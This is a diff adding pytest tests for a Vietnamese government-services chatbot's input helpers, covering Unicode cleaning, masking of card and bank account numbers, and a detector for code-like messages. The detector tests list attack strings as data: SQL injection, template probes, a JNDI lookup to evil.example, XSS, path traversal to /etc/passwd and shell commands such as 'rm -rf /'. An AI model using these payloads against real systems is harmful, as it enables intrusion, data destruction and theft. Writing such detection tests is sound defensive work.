@@ -10,10 +10,13 @@ import pytest
 from actions.text import (
     ABBREVIATIONS,
     MAX_MESSAGE_CHARS,
+    PLACEHOLDERS,
+    clean,
     contains_pii,
     fold,
     has_diacritics,
     input_problem,
+    looks_like_code,
     mask_pii,
     nfc,
     normalise,
@@ -157,6 +160,109 @@ def test_with_bigrams_adds_adjacent_pairs() -> None:
     assert with_bigrams(["kich", "hoat", "vneid"]) == ["kich", "hoat", "vneid", "kich_hoat", "hoat_vneid"]
     assert with_bigrams(["mot"]) == ["mot"]
     assert with_bigrams([]) == []
+
+
+# --- cleaning incoming text ---------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("text", "cleaned"),
+    [
+        ("\ud800kích hoạt", "kích hoạt"),  # a lone surrogate: .encode() used to raise and crash the bot
+        ("kích hoạt\udfff", "kích hoạt"),
+        ("\ud83d\ude00 ok", "😀 ok"),  # a surrogate pair held as two code points is the emoji it encodes
+        ("a\x00b", "ab"),
+        ("xin\x07 chào\x7f", "xin chào"),
+        ("\x1b[31mđỏ\x1b[0m", "đỏ"),  # terminal colour codes, whole
+        ("lỗi\x9b ở đâu\x80", "lỗi ở đâu"),  # C1 controls
+        ("xin \u202echào\u202c", "xin chào"),  # bidi override
+        ("\u2067tên\u2069 \u200fok\u200e", "tên ok"),  # bidi isolates, RLM/LRM
+        ("\ufffekích\uffff \U0010ffff\ufdd0hoạt", "kích hoạt"),  # non-characters
+        ("kích\u200bhoạt", "kíchhoạt"),
+        ("\ufeffđăng ký", "đăng ký"),
+        ("vne\u00adid", "vneid"),  # soft hyphen
+        ("dòng 1\r\ndòng 2\rdòng 3\u2028dòng 4\x85dòng 5", "dòng 1\ndòng 2\ndòng 3\ndòng 4\ndòng 5"),
+        ("cột 1\tcột 2\n", "cột 1\tcột 2\n"),  # tabs and newlines stay
+        (unicodedata.normalize("NFD", "Đăng ký khai sinh"), "Đăng ký khai sinh"),
+        ("👍😀🙏 ❤️ ☺️", "👍😀🙏 ❤️ ☺️"),  # emoji and their variation selectors stay
+        ("👨\u200d👩\u200d👧", "👨👩👧"),  # a ZWJ sequence falls apart into its emoji: fine
+        ("🇻🇳", "🇻🇳"),
+        ("Căn cước công dân", "Căn cước công dân"),
+        ("", ""),
+    ],
+)
+def test_clean(text: str, cleaned: str) -> None:
+    assert clean(text) == cleaned
+    assert clean(cleaned) == cleaned  # idempotent
+
+
+def test_nfc_cleans_too() -> None:
+    assert nfc("\ud800 kích\x00 hoạt\u2028vneid ") == "kích hoạt vneid"
+    assert fold("\ud800Đăng\x1b[1m ký") == "dang ky"
+
+
+_NASTY = [
+    "",
+    "\x00",
+    "\x00" * 50,
+    "\x1b[31m",
+    "\x1b[31mkích hoạt\x1b[0m",
+    "\ud800",
+    "\udfff\ud800",
+    "kích \ud83d hoạt \ude00",
+    "\ud83d\ude00",
+    "😀👍🙏❤️",
+    "👨\u200d👩\u200d👧\u200d👦",
+    "\u200d\u200d\u200d",
+    "\u202eDIVA\u202c \u200f\u200e\u061c",
+    "\u2066\u2067\u2068\u2069",
+    "שלום مرحبا kích hoạt",
+    "\ufffe\uffff\U0010ffff\ufdd0",
+    "a" + "\u0301" * 200,
+    "\u0301" * 200,
+    "Đ" + "\u0323\u0302" * 100,
+    "x" * 100_000,
+    "kích hoạt vneid " * 6_250,
+    "1" * 100_000,
+    "4111 " * 20_000,
+    "😀" * 100_000,
+    "\ud800" * 10_000,
+    "stk " * 10_000 + "0123456789",
+    "otp " * 10_000 + "1234",
+    "<" * 10_000 + "script" + ">" * 10_000,
+    "{{" * 10_000,
+    "%s" * 10_000,
+    "\r\n\t\x0b\x0c\x85\u2028\u2029",
+    "\U000e0067\U000e0062\U000e007f",
+    "İ ǅ ß ﬁ Ω",
+    "١٢٣٤٥٦٧٨٩٠١٢٣٤٥٦",
+    "４１１１１１１１１１１１１１１１",
+]
+
+
+@pytest.mark.parametrize("text", _NASTY, ids=range(len(_NASTY)))
+def test_text_helpers_never_raise(text: str) -> None:
+    assert isinstance(clean(text), str)
+    clean(text).encode("utf-8")
+    assert isinstance(nfc(text), str)
+    nfc(text).encode("utf-8")
+    assert isinstance(fold(text), str)
+    assert isinstance(mask_pii(text), str)
+    assert isinstance(contains_pii(text), bool)
+    assert isinstance(shares_secret(text), bool)
+    assert isinstance(normalise(text), str)
+    assert isinstance(tokens(text), list)
+    assert isinstance(has_diacritics(text), bool)
+    assert input_problem(text) in (None, "empty", "no_text", "too_long")
+    assert isinstance(looks_like_code(text), bool)
+
+
+def test_clean_output_always_encodes() -> None:
+    # every code point, lone surrogates included, in one string and one by one
+    every = "".join(chr(cp) for cp in range(0x110000))
+    clean(every).encode("utf-8")
+    for cp in range(0, 0x110000, 7):
+        clean(chr(cp) + "a" + chr(cp)).encode("utf-8")
 
 
 # --- personal data -------------------------------------------------------------------------------------------
@@ -357,6 +463,145 @@ def test_shares_secret(text: str, secret: bool) -> None:
     assert shares_secret(text) is secret
 
 
+# --- bank cards and accounts --------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("text", "masked"),
+    [
+        ("4111111111111111", "[THẺ]"),
+        ("5500-0000-0000-0004", "[THẺ]"),
+        ("4111 1111 1111 1111", "[THẺ]"),  # the 12-digit CCCD rule used to take the first 12 digits
+        ("4111.1111.1111.1111", "[THẺ]"),
+        ("3782 822463 10005", "[THẺ]"),  # Amex, 4-6-5
+        ("3714-496353-98431", "[THẺ]"),
+        ("3056 9309 0259 04", "[THẺ]"),  # 14 digits
+        ("4222222222222", "[THẺ]"),  # 13 digits
+        ("6221 2600 0000 0000 019", "[THẺ]"),  # 19 digits
+        ("thẻ 4111 1111 1111 1111 bị trừ tiền", "thẻ [THẺ] bị trừ tiền"),
+        ("thẻ visa 4111111111111111, sđt 0912345678", "thẻ visa [THẺ], sđt [SĐT]"),
+        ("số thẻ: 5500 0000 0000 0004.", "số thẻ: [THẺ]."),
+        # 13-19 grouped digits failing Luhn: still masked, whole
+        ("4111 1111 1111 1112", "[SỐ]"),
+        ("số 1234 5678 9012 3456 7 nhé", "số [SỐ] nhé"),
+        ("0012 0301 2345 6789", "[SỐ]"),
+    ],
+)
+def test_mask_pii_masks_card_numbers(text: str, masked: str) -> None:
+    assert mask_pii(text) == masked
+    assert contains_pii(text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "4111 1111 1111 1111",
+        "4111 1111 1111 1112",
+        "1234 5678 9012 3",
+        "1234-5678-9012-3456-789",
+        "1.234.567.890.123",
+        "9704 1234 5678 9012 345",
+        "gọi 4111 1111 1111 1112 giúp",
+    ],
+)
+def test_long_digit_runs_are_never_half_masked(text: str) -> None:
+    assert not re.search(r"\d", mask_pii(text))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "vay 1.000.000.000.000 đồng",  # 13 digits of money, not a card
+        "tổng 4111111111111111 vnd",
+        "Mã hồ sơ H09.22-240228-4111111111111111",  # glued to a dossier code
+        "mã G22.105-240101-000123-4111",
+    ],
+)
+def test_card_rule_keeps_money_and_codes(text: str) -> None:
+    assert mask_pii(text) == text
+
+
+@pytest.mark.parametrize(
+    ("text", "masked"),
+    [
+        ("stk 0123456789 vietcombank", "stk [STK] vietcombank"),  # would otherwise read as a phone number
+        ("số tài khoản: 1903 5555 8888 01", "số tài khoản: [STK]"),
+        ("so tai khoan 1903 5555 8888 01", "so tai khoan [STK]"),
+        ("chuyen tien vao tk 19035555888801 techcombank", "chuyen tien vao tk [STK] techcombank"),
+        ("STK: 0071000123456 VCB", "STK: [STK] VCB"),
+        ("Số TK của tôi là 123456", "Số TK của tôi là [STK]"),  # 6 digits: otherwise an OTP
+        ("tài khoản ngân hàng 001203012345", "tài khoản ngân hàng [STK]"),  # 12 digits: otherwise a CCCD
+        ("tai khoan ngan hang agribank cua minh la 1234-5678-9012", "tai khoan ngan hang agribank cua minh la [STK]"),
+        ("tk ngân hàng: 9704.1234.5678", "tk ngân hàng: [STK]"),
+        ("account 123456789", "account [STK]"),
+        ("acc vcb 0123456789 nhé", "acc vcb [STK] nhé"),
+        ("stk\n0123456789", "stk\n[STK]"),
+        ("STK:\r\n0123456789", "STK:\r\n[STK]"),
+        ("stk  0123456789", "stk  [STK]"),  # a double space does not lose the position
+        (unicodedata.normalize("NFD", "số tài khoản 0123456789"), unicodedata.normalize("NFD", "số tài khoản [STK]")),
+        ("stk 0123456789, sđt 0912345678", "stk [STK], sđt [SĐT]"),
+    ],
+)
+def test_mask_pii_masks_bank_account_numbers(text: str, masked: str) -> None:
+    assert mask_pii(text) == masked
+    assert contains_pii(text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "tài khoản VNeID mức 2",
+        "mất 2 tài khoản",
+        "phí 50.000 đồng",
+        "tổng đài 1900 0368",
+        "tk bị khóa, gọi 1900 0368",
+        "tk ngân hàng bị trừ 150.000 đồng",
+        "stk bị trừ 150000đ",
+        "tài khoản ngân hàng bị trừ 2 triệu",
+        "tk tạo ngày 12.03.2025",
+        "tk vneid mức 2",
+        "stk 12345",  # too short for an account
+        "Mã hồ sơ tk H09.22-240228-0005",
+    ],
+)
+def test_account_rule_keeps_ordinary_numbers(text: str) -> None:
+    assert mask_pii(text) == text
+
+
+@pytest.mark.parametrize(
+    ("text", "masked"),
+    [
+        # a VNeID/dichvucong login is a phone or CCCD number: those labels, not [STK]
+        ("tk vneid của tôi là 0912345678", "tk vneid của tôi là [SĐT]"),
+        ("tk đăng nhập 001203012345", "tk đăng nhập [CCCD]"),
+        ("quên mk tk 0912345678", "quên mk tk [STK]"),
+        # an account word far away or in another sentence does not make a number an account
+        ("tk của tôi bị khóa rồi, hôm qua tôi gọi 0912345678", "tk của tôi bị khóa rồi, hôm qua tôi gọi [SĐT]"),
+        ("stk? sđt 0912345678", "stk? sđt [SĐT]"),
+        ("tk bị khóa\ngọi 0912345678", "tk bị khóa\ngọi [SĐT]"),
+    ],
+)
+def test_account_rule_leaves_other_numbers_to_their_rules(text: str, masked: str) -> None:
+    assert mask_pii(text) == masked
+
+
+def test_every_placeholder_is_known_to_input_problem() -> None:
+    samples = [
+        "4111111111111111",
+        "4111 1111 1111 1112",
+        "stk 0123456789",
+        "0912345678",
+        "001203012345",
+        "123456789",
+        "123456",
+    ]
+    produced = {placeholder for sample in samples for placeholder in re.findall(r"\[[^\]]+\]", mask_pii(sample))}
+    assert produced <= set(PLACEHOLDERS)
+    for placeholder in PLACEHOLDERS:
+        assert unicodedata.is_normalized("NFC", placeholder)
+        assert input_problem(placeholder) == "empty"
+
+
 # --- unreadable input ----------------------------------------------------------------------------------------
 
 
@@ -382,6 +627,10 @@ def test_shares_secret(text: str, secret: bool) -> None:
         (123, "non_text"),
         ({"type": "image"}, "non_text"),
         (["a"], "non_text"),
+        ("' OR 1=1; DROP TABLE users; --", "code"),
+        ("{{7*7}} ${7*7} %s %n", "code"),
+        ("<script>alert(1)</script>", "code"),
+        ("phí 50% có đúng không?", None),
     ],
 )
 def test_input_problem(text: object, problem: str | None) -> None:
@@ -408,6 +657,124 @@ def test_input_problem_too_long() -> None:
 )
 def test_strip_tags(text: str, stripped: str) -> None:
     assert strip_tags(text) == stripped
+
+
+# --- machine-like input -------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        # SQL injection
+        "' OR 1=1; DROP TABLE users; --",
+        "1' UNION SELECT * FROM users",
+        "admin'--",
+        "' or 'a'='a",
+        "1 or 1=1",
+        "x'); DROP TABLE users;--",
+        "1; DROP TABLE hoso",
+        "SELECT username, password FROM users WHERE id=1",
+        "'; WAITFOR DELAY '0:0:5'--",
+        "1 AND SLEEP(5)",
+        '{"$gt": ""}',
+        # template and format-string probes
+        "{{7*7}} ${7*7} %s %n",
+        "{{7*7}}",
+        "${7*7}",
+        "${{7*7}}",
+        "{{ self.__init__.__globals__ }}",
+        "<%= system('id') %>",
+        "${T(java.lang.Runtime).getRuntime()}",
+        "%s%s%s%s",
+        "%p %p",
+        "<%= 7*7 %>",
+        "#{7*7}",
+        "{{ config.__class__ }}",
+        "{% for x in range(10) %}",
+        "${jndi:ldap://evil.example/a}",
+        "%x%x%x%x%n",
+        # script and HTML
+        "<script>alert(1)</script>",
+        "javascript:alert(1)",
+        "<img src=x onerror=alert(1)>",
+        "<svg onload=alert(document.cookie)>",
+        '<iframe src="javascript:alert(1)"></iframe>',
+        "<?php system('id'); ?>",
+        "kích hoạt vneid<scr\u200bipt>alert(1)</script>",  # a zero-width space does not hide it
+        # path traversal
+        "../../etc/passwd",
+        "..\\..\\windows\\win.ini",
+        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
+        # shell
+        "; rm -rf /",
+        "$(whoami)",
+        "`whoami`",
+        "| cat /etc/passwd",
+        "&& whoami",
+    ],
+)
+def test_looks_like_code(text: str) -> None:
+    assert looks_like_code(text) is True
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "phí 50% có đúng không?",
+        "giảm 50%, còn 20% nữa",
+        "giảm 50%nhé",
+        "hệ thống báo lỗi %s",
+        "tin nhắn báo 'Lỗi %s: %s' là sao",
+        "tôi nhận tin nhắn 'Ma OTP cua ban la {{otp}}' là sao?",
+        "Xin chào ${name}, hồ sơ #{ma_ho_so} đã được tiếp nhận",
+        "máy báo lỗi C:\\Windows\\System32\\drivers không mở được",
+        "bấm Confirm () không được",
+        "mã hồ sơ H09.22-240228-0005 đến đâu rồi",
+        "email abc@gmail.com ko nhận được mã",
+        "tôi ở xã A; muốn hỏi về CCCD",
+        "tôi ở xã A; cat tóc",
+        "sao lại bị lỗi {?}",
+        "{tên} điền vào đâu",
+        "chọn 1 hay 2?",
+        "1 + 1 = 2 phải không",
+        "kích hoạt vneid -- giúp tôi với",
+        "tôi tên 'Lan' -- hỏi về khai sinh",
+        ":) cảm ơn",
+        "cảm ơn ạ!!! <3",
+        "tài khoản bị khóa :( giúp với",
+        "ok",
+        "select",
+        "drop",
+        "SELECT",
+        "tôi muốn select gói dịch vụ",
+        "select the right form from the list",
+        "drop hồ sơ được không",
+        "cho hỏi về drop table trong excel",
+        "update thông tin cccd ở đâu",
+        "delete tài khoản vneid thế nào",
+        "insert ảnh vào hồ sơ",
+        "vào trang https://dichvucong.gov.vn/p/home/dvc-trang-chu.html bị lỗi",
+        "<b>xin</b> chào",
+        "a < b và c > d",
+        "<= 3 ngày",
+        "bấm nút thì hiện javascript:void(0) không làm gì",
+        "lỗi 404 ../ trang không tìm thấy",
+        "thư mục C:/Users/Lan/Documents không mở được",
+        "số tiền $100 (khoảng 2 triệu)",
+        "mật khẩu phải có ký tự đặc biệt như !@#$%^&*() phải không",
+        "tk: abc_123 mk: Abc@123#",
+        "từ 1/1/2025 đến 31/12/2025",
+        "giờ làm việc 7h30 - 11h30; 13h30 - 17h",
+        "Q&A về vneid",
+        "#hỏi về #cccd",
+        "mã lỗi: ERR_CONNECTION_RESET",
+        "nộp hồ sơ online = mất phí không?",
+        '{ "a": 1 }',
+        "",
+    ],
+)
+def test_resident_messages_do_not_look_like_code(text: str) -> None:
+    assert looks_like_code(text) is False
 
 
 # --- small helpers -------------------------------------------------------------------------------------------
